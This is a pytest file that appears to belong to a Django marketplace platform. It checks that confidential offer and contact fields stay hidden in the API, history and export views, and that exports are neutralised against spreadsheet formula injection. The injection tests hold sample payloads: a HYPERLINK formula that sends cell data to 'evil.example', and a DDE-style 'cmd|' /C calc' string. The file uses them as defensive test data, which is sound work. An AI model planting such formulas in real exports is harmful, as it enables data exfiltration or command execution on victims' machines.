"""Field visibility (Policy.hidden_fields) in every place a row is read: the API detail, the history (API and
portal) and the exports; people in a history shown as the viewer may see them; exports safe from spreadsheet
formula injection and still re-importable unchanged (issue 15, findings 1, 2 and 6)."""

from __future__ import annotations

import io

import openpyxl
import pytest
import tablib
from django.core.management import call_command

from greentech.core import audit, imports
from greentech.core.datasets import neutralise, unneutralise
from greentech.core.permissions import hidden_fields
from greentech.market.models import Offer, Status
from greentech.testing import factories

pytestmark = pytest.mark.django_db

SECRET_DESCRIPTION = "完整技术方案：机密工艺参数"
SECRET_EMAIL = "wang@example.cn"
SECRET_PHONE = "+86 138 0000 1234"


def confidential_offer(member_org, member, department_officer, disclosure=Offer.Disclosure.TERMS):
    """An offer created and edited by `member`, reviewed by the department officer, then published."""
    with audit.acting_as(member, audit.Source.WEB):
        offer = Offer.objects.create(
            organization=member_org,
            title="余热发电技术",
            summary="中低温余热有机朗肯循环发电。",
            description="初稿",
            contact_name="王工",
            contact_email="old@example.cn",
            contact_phone=SECRET_PHONE,
            disclosure=disclosure,
            confidentiality_terms="不得向第三方披露。",
            status=Status.SUBMITTED,
            created_by=member,
        )
        offer.description = SECRET_DESCRIPTION
        offer.contact_email = SECRET_EMAIL
        offer.save()
    with audit.acting_as(department_officer, audit.Source.WEB):
        offer.status = Status.PUBLISHED
        offer.reviewed_by = department_officer
        offer.save()
    return offer


def english(client):
    """A client that asks for English (the platform's default language is Chinese)."""
    client.credentials(HTTP_ACCEPT_LANGUAGE="en")
    return client


def _leaks(text: str) -> list[str]:
    secrets = (SECRET_DESCRIPTION, SECRET_EMAIL, "old@example.cn", "138 0000", "王工")
    return [secret for secret in secrets if secret in text]


@pytest.mark.parametrize("disclosure", [Offer.Disclosure.REGISTERED, Offer.Disclosure.TERMS])
def test_the_offer_history_api_hides_the_details_and_the_accounts_from_a_visitor(
    api_client, member_org, member, department_officer, disclosure
):
    offer = confidential_offer(member_org, member, department_officer, disclosure)
    response = english(api_client()).get(f"/api/v1/offers/{offer.pk}/history/")
    assert response.status_code == 200
    text = response.content.decode()
    assert _leaks(text) == []
    assert '"member"' not in text and department_officer.username not in text
    history = response.json()
    assert [entry["user"] for entry in history] == ["a reviewer", f"a member of {member_org.name}"] + [
        f"a member of {member_org.name}"
    ]
    described = [change for entry in history for change in entry["changes"] if change["field"] == "description"]
    assert described and all(change["hidden"] and change["after"] is None for change in described)
    people = [change for entry in history for change in entry["changes"] if change["field"] == "reviewed_by"]
    assert people[0]["after"] == "a reviewer"


def test_the_portal_history_page_hides_the_details_from_a_visitor(client, member_org, member, department_officer):
    offer = confidential_offer(member_org, member, department_officer)
    response = client.get(f"/market/offers/{offer.pk}/history/")
    assert response.status_code == 200
    text = response.content.decode()
    assert _leaks(text) == []
    assert ">member<" not in text and department_officer.username not in text


def test_the_history_shows_the_details_and_names_to_those_who_may_see_them(
    api_client, member_org, member, other_member, department_officer, admin
):
    offer = confidential_offer(member_org, member, department_officer, Offer.Disclosure.REGISTERED)
    own = english(api_client(member)).get(f"/api/v1/offers/{offer.pk}/history/").json()
    assert own[-1]["user"] == "member"  # the person themself
    assert own[0]["user"] == "a reviewer"
    registered = api_client(other_member).get(f"/api/v1/offers/{offer.pk}/history/").content.decode()
    assert SECRET_DESCRIPTION in registered  # 'registered': signed-in members of an organization read the details
    assert '"member"' not in registered
    everything = api_client(admin).get(f"/api/v1/offers/{offer.pk}/history/").json()
    assert [entry["user"] for entry in everything][:2] == [department_officer.username, "member"]
    assert SECRET_EMAIL in str(everything)


def test_the_history_shows_terms_details_only_after_the_terms_are_accepted(
    api_client, member_org, member, other_member, other_org, department_officer
):
    from greentech.market import services

    offer = confidential_offer(member_org, member, department_officer, Offer.Disclosure.TERMS)
    client = api_client(other_member)
    assert _leaks(client.get(f"/api/v1/offers/{offer.pk}/history/").content.decode()) == []
    services.accept_terms(other_member, offer, organization=other_org)
    assert SECRET_EMAIL in client.get(f"/api/v1/offers/{offer.pk}/history/").content.decode()


def test_a_public_persons_contact_details_are_hidden_from_visitors_everywhere(api_client, member, member_org):
    with audit.acting_as(member, audit.Source.WEB):
        person = factories.PersonFactory(organization=member_org, is_public=True, email="li@example.cn")
        person.phone = "13900001111"
        person.save()
    visitor = api_client()
    body = visitor.get(f"/api/v1/people/{person.pk}/").json()
    assert body["name"] == person.name and body["email"] is None and body["phone"] is None
    listed = visitor.get("/api/v1/people/").json()
    assert "li@example.cn" not in str(listed)
    history = visitor.get(f"/api/v1/people/{person.pk}/history/").content.decode()
    assert "li@example.cn" not in history and "13900001111" not in history
    row = next(r for r in imports.export_table("people", user=None).dict if r["external_id"] == person.external_id)
    assert row["email"] == "" and row["phone"] == "" and row["name"] == person.name
    assert api_client(member).get(f"/api/v1/people/{person.pk}/").json()["email"] == "li@example.cn"


def _exported(name, user, reference_field, reference):
    table = imports.export_table(name, user=user)
    return next(row for row in table.dict if row[reference_field] == reference)


@pytest.mark.parametrize("disclosure", [Offer.Disclosure.REGISTERED, Offer.Disclosure.TERMS])
def test_the_offers_export_follows_the_disclosure_level(member_org, member, department_officer, visitor, disclosure):
    offer = confidential_offer(member_org, member, department_officer, disclosure)
    row = _exported("offers", visitor, "reference", offer.reference)
    assert row["summary"] == offer.summary
    assert (row["description"], row["contact_name"], row["contact_email"], row["contact_phone"]) == ("", "", "", "")
    own = _exported("offers", member, "reference", offer.reference)
    assert own["description"] == SECRET_DESCRIPTION and own["contact_email"] == SECRET_EMAIL


def test_the_export_command_with_a_user_follows_the_disclosure_level(
    member_org, member, other_member, department_officer, capsysbinary
):
    offer = confidential_offer(member_org, member, department_officer, Offer.Disclosure.TERMS)
    call_command("export", "offers", "--user", other_member.username, "--format", "jsonl")
    text = capsysbinary.readouterr().out.decode()
    assert offer.reference in text and _leaks(text) == []
    call_command("export", "offers", "--user", member.username, "--format", "jsonl")
    assert SECRET_EMAIL in capsysbinary.readouterr().out.decode()


def test_every_dataset_with_restricted_fields_exports_them_blank_for_whom_they_are_hidden():
    """Each dataset's model either restricts no field, or the test above covers it (a new restricted model must
    get a test here)."""
    from greentech.core import datasets
    from greentech.core.permissions import policy_for

    restricted = {
        info.name for info in datasets.all_datasets() if policy_for(info.resource._meta.model).restricted_fields
    }
    assert restricted == {"offers", "people"}


# --- formula injection -------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_neutralise_and_unneutralise_are_inverse_and_leave_ordinary_text_alone():
    for text in (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "'=x", "'plain", SECRET_PHONE):
        assert neutralise(text).startswith("'")
        assert unneutralise(neutralise(text)) == text
    for text in ("普通文本", "a=b", "2025", ""):
        assert neutralise(text) == text and unneutralise(text) == text


def _injected_offer(member_org, member):
    with audit.acting_as(member, audit.Source.WEB):
        return Offer.objects.create(
            organization=member_org,
            title=FORMULA,
            summary="@SUM(1+1)*cmd|' /C calc'!A0",
            description="- 第一点\n- 第二点",
            contact_phone=SECRET_PHONE,
            energy_saved_tce=-5,  # a number keeps its sign: only text cells are neutralised
            status=Status.DRAFT,
        )


def test_exports_neutralise_formulas_in_text_cells_only(member_org, member):
    offer = _injected_offer(member_org, member)
    table = imports.export_table("offers", user=member)
    csv_text = imports.render_table(table, "csv").decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
    workbook = openpyxl.load_workbook(io.BytesIO(imports.render_table(table, "xlsx")))
    sheet = workbook.active
    headers = [cell.value for cell in sheet[1]]
    row = [cell for cell in sheet[2]]
    cells = dict(zip(headers, row, strict=True))
    assert all(cell.data_type != "f" for cell in row)
    assert cells["title"].value == f"'{FORMULA}"
    assert cells["summary"].value.startswith("'@") and cells["contact_phone"].value == f"'{SECRET_PHONE}"
    assert str(cells["energy_saved_tce"].value) in ("-5", "-5.0", "-5.00")
    assert offer.reference == cells["reference"].value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_text_reimports_unchanged(member_org, member, tmp_path, fmt):
    offer = _injected_offer(member_org, member)
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(imports.render_table(imports.export_table("offers", user=member), fmt))
    report = imports.run_import("offers", path, user=member)
    assert report.ok, [error.as_dict() for error in report.errors]
    assert (report.unchanged, report.updated, report.created) == (1, 0, 0)
    offer.refresh_from_db()
    assert (offer.title, offer.contact_phone, offer.description) == (FORMULA, SECRET_PHONE, "- 第一点\n- 第二点")


def test_an_import_refuses_a_formula_cell(member_org, member):
    table = tablib.Dataset(headers=["reference", "title", "organization", "summary"])
    table.append(["", FORMULA, member_org.name, "摘要"])
    report = imports.run_import("offers", table, user=member)
    assert not report.ok
    assert any(error.column == "title" and "formula" in error.text("en") for error in report.errors), [
        error.as_dict() for error in report.errors
    ]
    assert not Offer.objects.filter(summary="摘要").exists()


def test_hidden_fields_are_empty_for_administrators(member_org, member, department_officer, admin, visitor):
    offer = confidential_offer(member_org, member, department_officer)
    assert hidden_fields(admin, offer) == frozenset()
    assert hidden_fields(visitor, offer) == {"description", "contact_name", "contact_email", "contact_phone"}
